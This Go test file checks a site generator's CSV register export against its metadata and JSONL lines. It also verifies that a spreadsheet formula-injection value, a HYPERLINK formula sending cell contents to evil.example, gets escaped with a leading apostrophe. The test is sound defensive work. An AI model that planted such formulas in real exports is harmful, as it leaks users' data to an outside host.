package site

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/akta-foi/akta/content/table"
)

// readTable reads data/register.csv as data/register.csv-metadata.json says.
func readTable(t *testing.T, pl *plan) []map[string]string {
	t.Helper()
	var meta struct {
		URL         string `json:"url"`
		TableSchema struct {
			PrimaryKey string `json:"primaryKey"`
			Columns    []struct{ Name, Titles, Datatype, Separator string }
		} `json:"tableSchema"`
	}
	if err := json.Unmarshal(pl.data[registerCSV+"-metadata.json"], &meta); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(pl.data[registerCSV])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if meta.URL != "register.csv" || meta.TableSchema.PrimaryKey != "id" || len(rows[0]) != len(meta.TableSchema.Columns) {
		t.Fatalf("metadata: %+v", meta)
	}
	var out []map[string]string
	for _, row := range rows[1:] {
		m := map[string]string{}
		for i, c := range meta.TableSchema.Columns {
			if rows[0][i] != c.Titles || c.Name != c.Titles {
				t.Errorf("column %d: %q, metadata say %q", i+1, rows[0][i], c.Titles)
			}
			m[c.Name] = table.Text(row[i])
		}
		out = append(out, m)
	}
	return out
}

// The table and the lines say the same.
func TestRegisterData(t *testing.T) {
	p := dataPortal(t)
	formula := `=HYPERLINK("https://evil.example/?x="&A1;"klikněte")`
	p.Cases[1].Title = formula
	p.Cases[2].Title = "'quoted', line\none"
	pl := planned(t, p)
	rows := readTable(t, pl)
	if bytes.Contains(bytes.ReplaceAll(pl.data[registerCSV], []byte("\r\n"), nil), []byte("\n")) || bytes.HasPrefix(pl.data[registerCSV], []byte("\xef\xbb\xbf")) {
		t.Error("lines do not end in CRLF, or a byte order mark")
	}
	n := 0
	for line := range bytes.Lines(pl.data[registerJSONL]) {
		var e map[string]any
		if err := json.Unmarshal(line, &e); err != nil {
			t.Fatal(err)
		}
		for key, value := range e {
			want := fmt.Sprint(value)
			if list, ok := value.([]any); ok {
				want = strings.Trim(strings.ReplaceAll(fmt.Sprint(list), ",", ""), "[]")
			}
			if got := rows[n][key]; got != table.Line(want) {
				t.Errorf("row %d: %s: %q, the lines say %q", n+1, key, got, want)
			}
		}
		for key, value := range rows[n] {
			if _, there := e[key]; !there && value != "" {
				t.Errorf("row %d: %s: %q, the lines say nothing", n+1, key, value)
			}
		}
		n++
	}
	if n != 3 || len(rows) != 3 || rows[0]["title"] != formula || rows[0]["due"] != "2026-07-16" || rows[1]["topics"] != "roads" || rows[1]["withheld"] != "1" {
		t.Errorf("table: %v", rows)
	}
	if !bytes.Contains(pl.data[registerCSV], []byte(`"'=HYPERLINK(""https`)) {
		t.Errorf("a formula that runs: %s", pl.data[registerCSV])
	}
}
